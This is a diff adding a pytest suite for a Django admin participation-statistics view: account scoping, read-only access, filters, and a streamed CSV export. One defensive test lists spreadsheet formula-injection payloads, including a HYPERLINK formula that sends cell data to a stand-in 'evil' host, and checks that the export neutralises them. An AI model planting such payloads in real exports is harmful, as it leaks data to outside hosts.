@@ -1,0 +1,193 @@
+"""Statistics in the admin: scoped, read-only, filterable, exported to CSV."""
+
+import csv
+import io
+
+import pytest
+from django.http import StreamingHttpResponse
+from django.urls import reverse
+
+from participants.exports import csv_cell
+from tests.factories import (
+    CampaignFactory,
+    CampaignFieldFactory,
+    ParticipantFactory,
+    ParticipationFactory,
+)
+
+pytestmark = pytest.mark.django_db
+
+CHANGELIST = reverse("admin:participants_participation_changelist")
+
+
+def export_url(campaign):
+    return reverse("admin:participants_participation_export", args=[campaign.pk])
+
+
+def read_csv(response):
+    body = b"".join(response.streaming_content).decode("utf-8")
+    assert body.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(body[1:])))
+
+
+@pytest.fixture
+def campaign_a(account):
+    campaign = CampaignFactory(account=account, title="Bike contest", slug="bike")
+    for position, variable in enumerate(["firstname", "email", "comment"]):
+        CampaignFieldFactory(
+            campaign=campaign, variable=variable, label_en=variable, position=position
+        )
+    return campaign
+
+
+@pytest.fixture
+def campaign_b(other_account):
+    return CampaignFactory(account=other_account, title="B's secret contest", slug="b-secret")
+
+
+def test_editor_sees_own_accounts_participations(client, editor_a, campaign_a, campaign_b):
+    ParticipationFactory(campaign=campaign_a, values={"firstname": "Ada"})
+    ParticipationFactory(campaign=campaign_b, values={"firstname": "Bob"})
+    client.force_login(editor_a)
+    response = client.get(CHANGELIST)
+    assert response.status_code == 200
+    assert "Bike contest" in response.text
+    assert "secret contest" not in response.text  # not even in the campaign filter
+    assert response.context["cl"].result_count == 1
+
+
+def test_statistics_are_read_only(client, editor_a, campaign_a):
+    participation = ParticipationFactory(campaign=campaign_a)
+    client.force_login(editor_a)
+    assert client.get(reverse("admin:participants_participation_add")).status_code == 403
+    change_url = reverse("admin:participants_participation_change", args=[participation.pk])
+    page = client.get(change_url)
+    assert page.status_code == 200
+    client.post(change_url, {"language": "fr"})
+    participation.refresh_from_db()
+    assert participation.language == "en"
+
+
+def test_editor_of_b_cannot_open_as_participation(client, admin_user_b, campaign_a):
+    participation = ParticipationFactory(campaign=campaign_a, values={"firstname": "Ada"})
+    client.force_login(admin_user_b)
+    response = client.get(
+        reverse("admin:participants_participation_change", args=[participation.pk])
+    )
+    assert response.status_code in (302, 404)
+    assert "Ada" not in response.text
+
+
+def test_filters_and_search(client, editor_a, campaign_a):
+    participant = ParticipantFactory(account=campaign_a.account, subject="sub-ada")
+    ParticipationFactory(
+        campaign=campaign_a,
+        participant=participant,
+        values={"firstname": "Ada", "email": "ada@example.com"},
+        prefilled={"firstname": "Ada", "email": "old@example.com"},
+        changed=["email"],
+    )
+    ParticipationFactory(campaign=campaign_a, values={"firstname": "Grace"})
+    client.force_login(editor_a)
+
+    def count(**query):
+        return client.get(CHANGELIST, query).context["cl"].result_count
+
+    assert count(campaign__id__exact=campaign_a.pk) == 2
+    assert count(prefilled="yes") == 1
+    assert count(prefilled="no") == 1
+    assert count(changed="yes") == 1
+    assert count(changed="no") == 1
+    assert count(q="sub-ada") == 1
+    assert count(q="Grace") == 1
+
+
+# ---------------------------------------------------------------------------- CSV export
+def test_export_has_a_bom_one_column_per_variable_and_the_flags(client, editor_a, campaign_a):
+    participant = ParticipantFactory(account=campaign_a.account, subject="sub-ada")
+    ParticipationFactory(
+        campaign=campaign_a,
+        participant=participant,
+        values={"firstname": "Zoé", "email": "zoe@example.com", "comment": "Très bien"},
+        prefilled={"firstname": "Zoé", "email": "old@example.com"},
+        changed=["email"],
+        language="fr",
+    )
+    ParticipationFactory(campaign=campaign_a, values={"firstname": "Grace"})
+    client.force_login(editor_a)
+
+    response = client.get(export_url(campaign_a))
+
+    assert response.status_code == 200
+    assert isinstance(response, StreamingHttpResponse)
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert 'filename="bike-participations.csv"' in response["Content-Disposition"]
+    header, first, second = read_csv(response)
+    assert header == [
+        "submitted_at",
+        "participant_subject",
+        "language",
+        "firstname",
+        "email",
+        "comment",
+        "prefilled",
+        "changed",
+        "prefilled_fields",
+        "changed_fields",
+    ]
+    assert first[1:] == [
+        "sub-ada",
+        "fr",
+        "Zoé",
+        "zoe@example.com",
+        "Très bien",
+        "yes",
+        "yes",
+        "email, firstname",
+        "email",
+    ]
+    assert second[1:] == ["", "en", "Grace", "", "", "no", "no", "", ""]
+
+
+@pytest.mark.parametrize(
+    "value",
+    ['=HYPERLINK("http://evil/?"&A1,"x")', "+1", "-2", "@SUM(1)", "\t=1", "\r=1"],
+)
+def test_export_neutralises_spreadsheet_formulas(client, editor_a, campaign_a, value):
+    ParticipationFactory(campaign=campaign_a, values={"firstname": value, "comment": "fine"})
+    client.force_login(editor_a)
+    _header, row = read_csv(client.get(export_url(campaign_a)))
+    assert row[3] == "'" + value
+    assert row[5] == "fine"
+
+
+def test_csv_cell_keeps_leading_zeros_and_plain_text():
+    assert csv_cell("00123") == "00123"
+    assert csv_cell("a=b") == "a=b"
+    assert csv_cell(None) == ""
+    assert csv_cell(True) == "yes"
+
+
+def test_export_of_another_accounts_campaign_is_not_found(client, editor_a, campaign_b):
+    ParticipationFactory(campaign=campaign_b, values={"firstname": "Bob"})
+    client.force_login(editor_a)
+    response = client.get(export_url(campaign_b))
+    assert response.status_code == 404
+    assert b"Bob" not in response.content
+
+
+def test_export_needs_an_admin_login(client, campaign_a):
+    response = client.get(export_url(campaign_a))
+    assert response.status_code == 302
+    assert reverse("admin:login") in response["Location"]
+
+
+def test_export_streams_rows_in_chunks(client, editor_a, campaign_a, django_assert_max_num_queries):
+    for index in range(25):
+        ParticipationFactory(campaign=campaign_a, values={"firstname": f"P{index}"})
+    client.force_login(editor_a)
+    response = client.get(export_url(campaign_a))
+    # Nothing is read before the body is consumed; then one query streams every row.
+    with django_assert_max_num_queries(3):
+        rows = read_csv(response)
+    assert len(rows) == 26
